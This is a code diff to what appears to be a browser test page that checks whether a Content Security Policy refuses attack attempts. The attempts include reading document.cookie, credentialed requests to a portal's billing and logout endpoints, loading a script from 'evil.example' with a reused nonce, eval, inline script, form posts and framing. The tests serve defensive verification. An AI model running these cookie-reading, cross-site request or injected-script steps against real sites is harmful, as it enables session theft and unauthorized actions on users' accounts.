@@ -13,41 +13,40 @@
       found[name] = "refused: " + error.name;
     }
   };
-  const loads = (element, address) => new Promise((resolve, reject) => {
-    element.onload = () => resolve("it loaded");
-    element.onerror = () => reject(new TypeError("it did not load"));
-    element.src = address;
-    document.body.append(element);
-  });
-  // The policy's own word that it refused something.
-  const violation = (task) => new Promise((resolve, reject) => {
+  // The policy's own word that it refused this before anything was sent. Where it never comes, the page never goes on.
+  const violation = (directive, task) => new Promise((resolve, reject) => {
     const heard = (event) => {
+      if (event.effectiveDirective !== directive) return;
       document.removeEventListener("securitypolicyviolation", heard);
-      reject(new DOMException("", event.effectiveDirective));
+      reject(new DOMException("", directive));
     };
     document.addEventListener("securitypolicyviolation", heard);
     task();
   });
+  const asks = (options) => () => { fetch(portal + "/logout", { credentials: "include", ...options }).catch(() => {}); };
+  const loads = (element, address) => () => {
+    element.src = address;
+    document.body.append(element);
+  };
 
   const run = async () => {
     found.cookies = document.cookie === "" ? "refused: none" : "GOT " + document.cookie;
-    await attempt("fetch", () => fetch(portal + "/billing/invoices", { credentials: "include" }).then((a) => a.text()));
-    await attempt("blind", () => fetch(portal + "/logout", { method: "POST", mode: "no-cors", credentials: "include" }));
-    await attempt("image", () => loads(new Image(), portal + "/billing/invoices"));
-    await attempt("script", () => loads(document.createElement("script"), portal + "/assets/tollgate.js"));
-    await attempt("elsewhere", () => {
-      const script = document.createElement("script");
-      // A nonce could be read and used again: there must be none.
-      script.nonce = document.currentScript?.nonce || document.querySelector("script").nonce;
-      return loads(script, "https://evil.example/a.js");
-    });
+    await attempt("fetch", () => violation("connect-src", asks({})));
+    await attempt("blind", () => violation("connect-src", asks({ method: "POST", mode: "no-cors" })));
+    await attempt("image", () => violation("img-src", loads(new Image(), portal + "/billing/invoices")));
+    const script = document.createElement("script");
+    await attempt("script", () => violation("script-src-elem", loads(script, portal + "/assets/tollgate.js")));
+    // A nonce could be read and used again: there must be none.
+    const elsewhere = document.createElement("script");
+    elsewhere.nonce = document.querySelector("script").nonce;
+    await attempt("elsewhere", () => violation("script-src-elem", loads(elsewhere, "https://evil.example/a.js")));
     await attempt("eval", () => window.eval("1 + 1"));
-    await attempt("inline", () => violation(() => {
+    await attempt("inline", () => violation("script-src-elem", () => {
       const script = document.createElement("script");
       script.textContent = "window.inline = true";
       document.body.append(script);
     }));
-    await attempt("form", () => violation(() => {
+    await attempt("form", () => violation("form-action", () => {
       // In a frame of its own, because a form that is refused takes the page that it stands in with it.
       const inner = document.createElement("iframe");
       inner.name = "inner";
@@ -59,7 +58,7 @@
       document.body.append(form);
       form.submit();
     }));
-    await attempt("frame", () => violation(() => {
+    await attempt("frame", () => violation("frame-src", () => {
       const frame = document.createElement("iframe");
       frame.src = portal + payment;
       document.body.append(frame);
